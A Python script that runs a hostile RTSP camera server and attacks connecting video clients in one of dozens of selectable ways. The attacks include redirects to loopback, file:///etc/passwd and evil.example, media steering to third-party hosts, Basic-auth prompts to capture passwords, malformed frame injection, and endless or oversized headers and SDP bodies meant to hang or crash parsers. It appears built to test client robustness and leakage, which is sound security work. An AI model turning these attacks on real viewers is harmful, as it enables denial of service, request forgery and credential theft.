#!/usr/bin/env python3
"""An RTSP server that attacks its viewer as its first argument says; see ATTACKS.

usage: hostile-rtsp.py ATTACK ADDRESS PORT ELSEWHERE SECRET
"""
import base64
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

SSRC = 0x11223344
SDP = ("v=0\r\no=- 1 1 IN IP4 {address}\r\ns=-\r\nc=IN IP4 {connection}\r\nt=0 0\r\n"
       "m=audio 0 RTP/AVP 8\r\na=control:track1\r\n{more}")


def rtp(number, payload=b"\xd5" * 160):
    return struct.pack("!BBHII", 0x80, 8, number & 0xffff, number * 160 & 0xffffffff, SSRC) + payload


def framed(packet, channel=0):
    return struct.pack("!BBH", 0x24, channel, len(packet)) + packet


# Compound, as RFC 3550 asks: libavformat passes over anything under 12 octets.
BYE = struct.pack("!BBHIBBHI", 0x80, 201, 1, SSRC, 0x81, 203, 1, SSRC)


class Camera:
    """An honest camera, whose every part an attack may replace."""

    public = "OPTIONS, DESCRIBE, SETUP, PLAY, TEARDOWN"
    connection_address = "0.0.0.0"
    seconds = 30

    def __init__(self, connection):
        self.connection, self.udp, self.peer, self.number = connection, None, None, 1
        self.playing = False

    # What is said.

    def reply(self, cseq, status="200 OK", headers="", body=""):
        if body:
            headers += f"Content-Type: application/sdp\r\nContent-Length: {len(body)}\r\n"
        self.connection.sendall(f"RTSP/1.0 {status}\r\nCSeq: {cseq}\r\n{headers}\r\n{body}".encode())

    def redirect(self, cseq, location, status="302 Found"):
        self.reply(cseq, status, f"Location: {location}\r\n")

    def description(self):
        return SDP.format(address=ADDRESS, connection=self.connection_address, more="")

    def transport(self, asked):
        ports = re.search(r"client_port=(\d+)-", asked)
        if not ports:
            return "RTP/AVP/TCP;unicast;interleaved=0-1"
        self.udp = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2)]
        mine = 30000 + 2 * (int(ports.group(1)) % 10000)
        for channel in range(2):
            self.udp[channel].bind((ADDRESS, mine + channel))
        self.peer = (self.connection.getpeername()[0], int(ports.group(1)))
        return (f"RTP/AVP;unicast;client_port={ports.group(1)}-{int(ports.group(1)) + 1};"
                f"server_port={mine}-{mine + 1}")

    # What is asked.

    def options(self, cseq, uri, headers):
        self.reply(cseq, headers=f"Public: {self.public}\r\n")

    def describe(self, cseq, uri, headers):
        self.reply(cseq, body=self.description())

    def setup(self, cseq, uri, headers):
        self.reply(cseq, headers=f"Session: 1\r\nTransport: {self.transport(headers['transport'])}\r\n")

    def play(self, cseq, uri, headers):
        self.reply(cseq, headers="Session: 1\r\n")
        self.playing = True
        threading.Thread(target=self.stream, daemon=True).start()

    def teardown(self, cseq, uri, headers):
        self.playing = False
        self.reply(cseq)

    # What is sent.

    def send(self, packet, channel=0):
        if self.udp:
            self.udp[channel].sendto(packet, (self.peer[0], self.peer[1] + channel))
        else:
            self.connection.sendall(framed(packet, channel))

    def media(self, count):
        for _ in range(count):
            if not self.playing:
                return
            self.send(rtp(self.number))
            self.number += 1
            time.sleep(0.02)

    def attack(self):
        """Half a second into the stream."""

    def stream(self):
        try:
            self.media(25)
            self.attack()
            self.media(50 * self.seconds)
        except OSError:
            pass

    def serve(self):
        text = b""
        while octets := self.connection.recv(4096):
            text += octets
            while text[:1] == b"$" and len(text) >= 4:
                text = text[4 + struct.unpack("!H", text[2:4])[0]:]
            while b"\r\n\r\n" in text:
                head, text = text.split(b"\r\n\r\n", 1)
                lines = head.decode("latin-1").split("\r\n")
                headers = {name.strip().lower(): value.strip() for name, _, value in
                           (line.partition(":") for line in lines[1:])}
                method, uri, _ = (lines[0] + "  ").split(" ", 2)
                answer = getattr(self, method.lower(), None)
                if answer:
                    answer(headers.get("cseq", "0"), uri, headers)


def redirecting(location, at="describe", status="302 Found"):
    def answer(self, cseq, uri, headers):
        self.redirect(cseq, location.format(elsewhere=ELSEWHERE, address=ADDRESS, port=PORT), status)
    return {at: answer}


def steering(more):
    honest = Camera.transport
    return {"transport": lambda self, asked: honest(self, asked) + ";"
            + more.format(elsewhere=ELSEWHERE, address=ADDRESS)}


def granting(pattern, text):
    """The reply to SETUP with another word in it."""
    honest = Camera.transport
    return {"transport": lambda self, asked: re.sub(pattern, text, honest(self, asked))}


def injecting(octets):
    """Raw octets on the connection, in the middle of the stream."""
    return {"attack": lambda self: self.connection.sendall(octets() if callable(octets) else octets)}


def describing(more):
    def description(self):
        return SDP.format(address=ADDRESS, connection=self.connection_address,
                          more=more() if callable(more) else more)
    return {"description": description}


def flooding(start, step):
    """A reply that never ends."""
    def answer(self, cseq, uri, headers):
        self.connection.sendall(start.format(cseq=cseq).encode())
        while True:
            self.connection.sendall(step)
    return {"describe": answer}


def around(self, cseq, uri, headers):
    self.redirect(cseq, f"rtsp://{ADDRESS}:{PORT}/turn{os.urandom(4).hex()}")


def back_and_forth(self, cseq, uri, headers):
    self.redirect(cseq, f"rtsp://{ADDRESS}:{PORT}/{'b' if uri.endswith('/a') else 'a'}")


def challenge(value, status="401 Unauthorized", field="WWW-Authenticate"):
    def answer(self, cseq, uri, headers):
        self.reply(cseq, status, f"{field}: {value}\r\n")
    return {"describe": answer}


def digest_then_serve(self, cseq, uri, headers):
    if "authorization" in headers:
        Camera.describe(self, cseq, uri, headers)
    else:
        self.reply(cseq, "401 Unauthorized", 'WWW-Authenticate: Digest realm="c", nonce="n"\r\n'
                   'WWW-Authenticate: Basic realm="c"\r\n')


def dripping(self, cseq, uri, headers):
    for octet in b"RTSP/1.0 200 OK\r\nX: " + b"x" * 100000:
        self.connection.sendall(bytes([octet]))
        time.sleep(0.2)


def moving(self, cseq, uri, headers):
    """Another path of this very device, once."""
    if uri.endswith("/moved"):
        Camera.describe(self, cseq, uri, headers)
    else:
        self.redirect(cseq, f"rtsp://{ADDRESS}:{PORT}/moved")


def restart(self):
    self.number += 30000


def shuffle(self):
    for number in (1, 65535, 32768, 0, 40000, 7, 7, 7):
        self.send(rtp(number))


def goodbye(self):
    """What follows leaves with it, where the viewer might hang up first."""
    if self.udp:
        self.send(BYE, 1)
    else:
        after = b"".join(framed(rtp(self.number + n)) for n in range(5))
        self.number += 5
        self.connection.sendall(framed(BYE, 1) + after)


def last_goodbye(self):
    self.send(BYE, 1)
    self.playing = False


def reboot(self):
    self.connection.shutdown(socket.SHUT_RDWR)
    self.playing = False


def silence(self):
    time.sleep(30)


def spellings():
    """The viewer's password in every way that a device may write it."""
    secret = SECRET.encode()
    pair = b"admin:" + secret
    return " ".join([SECRET, *(base64.b64encode(b"x" * pad + word).decode() for word in (secret, pair)
                               for pad in range(3)), secret.hex(), secret.hex().upper(),
                     "".join(f"%{octet:02X}" for octet in secret),
                     "".join(f"%{octet:02x}" for octet in secret)])


def echo_describe(self, cseq, uri, headers):
    """Knows the password already, and shows it to everybody."""
    if "authorization" in headers:
        self.reply(cseq, f"200 {SECRET}", f"Server: {spellings()}\r\nX-{SECRET}: {SECRET}\r\n",
                   body=SDP.format(address=ADDRESS, connection="0.0.0.0", more="") +
                   f"a=tool:{spellings()}\r\ni={spellings()}\r\n")
    else:
        self.reply(cseq, "401 Unauthorized", f'WWW-Authenticate: Digest realm="{spellings()}", '
                   f'nonce="{SECRET}", opaque="{SECRET}"\r\n')


def echo_attack(self):
    self.connection.sendall(f"SET_PARAMETER {SECRET} RTSP/1.0\r\nCSeq: 9\r\nX: {spellings()}\r\n\r\n"
                            .encode())
    self.send(rtp(self.number, spellings().encode()))


SHORT = b"$\x00\x00\x02\x80\xe0"
# What each does to an honest camera.
ATTACKS = {
    "honest": {},
    # To go elsewhere.
    "redirect": redirecting("rtsp://{elsewhere}:554/x"),
    "redirect-options": redirecting("rtsp://{elsewhere}/x", "options"),
    "redirect-setup": redirecting("rtsp://{elsewhere}/x", "setup", "301 Moved"),
    "redirect-play": redirecting("rtsp://{elsewhere}/x", "play", "305 Use Proxy"),
    "redirect-loopback": redirecting("rtsp://127.0.0.1:22/"),
    "redirect-userinfo": redirecting("rtsp://{address}:554@{elsewhere}:554/x"),
    "redirect-decimal": redirecting("rtsp://3325256770/x"),
    "redirect-octal": redirecting("rtsp://0306.063.0144.0102/x"),
    "redirect-ipv6": redirecting("rtsp://[2001:db8::66]:554/x"),
    "redirect-mapped": redirecting("rtsp://[::ffff:198.51.100.66]:554/x"),
    "redirect-name": redirecting("rtsp://evil.example/x"),
    "redirect-http": redirecting("http://{elsewhere}/x"),
    "redirect-file": redirecting("file:///etc/passwd"),
    "redirect-twice": {"describe": lambda self, cseq, uri, headers: self.reply(
        cseq, "302 Found", f"Location: rtsp://{ADDRESS}:{PORT}/y\r\nLocation: rtsp://{ELSEWHERE}/x\r\n")},
    "redirect-request": {"attack": lambda self: self.connection.sendall(
        f"REDIRECT * RTSP/1.0\r\nCSeq: 1\r\nLocation: rtsp://{ELSEWHERE}/x\r\n\r\n".encode())},
    "redirect-circle": {"describe": around},
    "redirect-two": {"describe": back_and_forth},
    "redirect-nowhere": {"describe": lambda self, cseq, uri, headers: self.reply(cseq, "302 Found")},
    "redirect-relative": redirecting("/x"),
    "redirect-moved": {"describe": moving},
    "redirect-port": redirecting("rtsp://{address}:8554/x"),
    # To send and to hear elsewhere.
    "source": steering("source={elsewhere}"),
    "source-loopback": steering("source=127.0.0.9"),
    "source-tcp": steering("source={elsewhere}"),
    "source-own": steering("source={address}"),
    "source-name": steering("source=media.example"),
    "port-none": granting(";server_port=.*", ""),
    "port-beyond": granting("server_port=.*", "server_port=70000-70001"),
    "port-misnamed": granting("client_port=[0-9-]*", "client_port=22-23"),
    "report-elsewhere": describing(lambda: f"a=rtcp:5001 IN IP4 {ELSEWHERE}\r\n"),
    "destination": steering("destination={elsewhere}"),
    "src-addr": steering('src_addr="{elsewhere}:5000"/"{elsewhere}:5001"'),
    "connection": {"connection_address": "198.51.100.66"},
    "connection-group": {"connection_address": "239.1.2.3/1"},
    # For the password.
    "basic": challenge('Basic realm="c"'),
    "basic-proxy": challenge('Basic realm="c"', "407 Proxy Authentication Required",
                             "Proxy-Authenticate"),
    "digest": {"describe": digest_then_serve},
    # To blind.
    "short-frame": injecting(SHORT),
    "empty-frame": injecting(b"$\x00\x00\x00"),
    "short-frame-elsewhere": injecting(b"$\x09\x00\x03abc"),
    "goodbye": {"attack": goodbye, "teardown": Camera.options},
    "goodbye-last": {"attack": last_goodbye},
    "reboot": {"attack": reboot},
    "silence": {"attack": silence},
    # To hang or to break.
    "endless-header": flooding("RTSP/1.0 200 OK\r\nCSeq: {cseq}\r\nX: ", b"x" * 65536),
    "endless-headers": flooding("RTSP/1.0 200 OK\r\nCSeq: {cseq}\r\n", b"X-Y: z\r\n" * 8192),
    "endless-line": flooding("RTSP/1.0 200 ", b"O" * 65536),
    "length-negative": {"describe": lambda self, cseq, uri, headers: self.reply(
        cseq, headers="Content-Type: application/sdp\r\nContent-Length: -1\r\n")},
    "length-huge": {"describe": lambda self, cseq, uri, headers: self.reply(
        cseq, headers="Content-Type: application/sdp\r\nContent-Length: 4294967295\r\n")},
    "length-gigabyte": flooding("RTSP/1.0 200 OK\r\nCSeq: {cseq}\r\nContent-Type: application/sdp\r\n"
                                "Content-Length: 1073741824\r\n\r\n", b"a=x\r\n" * 16384),
    "sdp-tracks": describing(lambda: "m=video 0 RTP/AVP 96\r\na=control:x\r\n" * 65536),
    "sdp-attributes": describing(lambda: "a=fmtp:8 " + "x" * 15000 + "\r\n" + "a=rtpmap:8 PCMA/8000\r\n" * 20000),
    "sdp-line": describing(lambda: "a=" + "y" * 2000000 + "\r\n"),
    "sdp-sprop": describing("m=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\na=fmtp:96 "
                            "packetization-mode=1;sprop-parameter-sets=" + "Z" * 8000 + ",\r\na=control:v\r\n"),
    "sdp-odd": describing("m=\r\na=rtpmap:\r\na=fmtp:\r\nm=audio -1 RTP/AVP 999999999999\r\n"
                          "a=rtpmap:999999999999 %n%n/0/99999999\r\na=range:npt=-\r\nc=\r\n"),
    "drip": {"describe": dripping},
    "sequence-jump": {"attack": restart},
    "sequence-shuffle": {"attack": shuffle},
    "garbage": injecting(bytes(range(256)) * 200),
    "reply-unasked": injecting(b"RTSP/1.0 999 X\r\nCSeq: 4294967296\r\nContent-Length: x\r\n\r\n"),
    "tls": {},
    "echo": {"describe": echo_describe, "attack": echo_attack},
    "echo-refused": {"describe": lambda self, cseq, uri, headers: self.reply(
        cseq, f"461 {spellings()}", f"Location: rtsp://{ADDRESS}/{spellings()}\r\n")},
    "echo-host": {"describe": lambda self, cseq, uri, headers: self.redirect(
        cseq, f"rtsp://{SECRET.encode().hex()}.example/")},
    "echo-redirect": {"describe": lambda self, cseq, uri, headers: self.redirect(
        cseq, f"rtsp://admin:{SECRET}@{ELSEWHERE}/{spellings()}")},
}


def tls_context():
    with tempfile.NamedTemporaryFile() as both:
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
                        "-subj", "/CN=camera", "-keyout", both.name, "-out", both.name + ".crt"],
                       check=True, stderr=subprocess.DEVNULL)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(both.name + ".crt", both.name)
        os.unlink(both.name + ".crt")
        return context


def serve(camera, connection):
    try:
        camera(connection).serve()
    except (OSError, KeyError):
        pass


def main():
    attack = sys.argv[1]
    camera = type("Attacker", (Camera,), ATTACKS.get(attack.removeprefix("tls-"), {}))
    context = tls_context() if attack.startswith("tls") else None
    listener = socket.create_server((ADDRESS, PORT), backlog=16)
    print("ready", flush=True)
    while True:
        connection, _ = listener.accept()
        if context is not None:
            try:
                connection = context.wrap_socket(connection, server_side=True)
            except OSError:
                continue
        threading.Thread(target=serve, args=(camera, connection), daemon=True).start()


if __name__ == "__main__":
    ADDRESS, PORT, ELSEWHERE, SECRET = sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
    main()
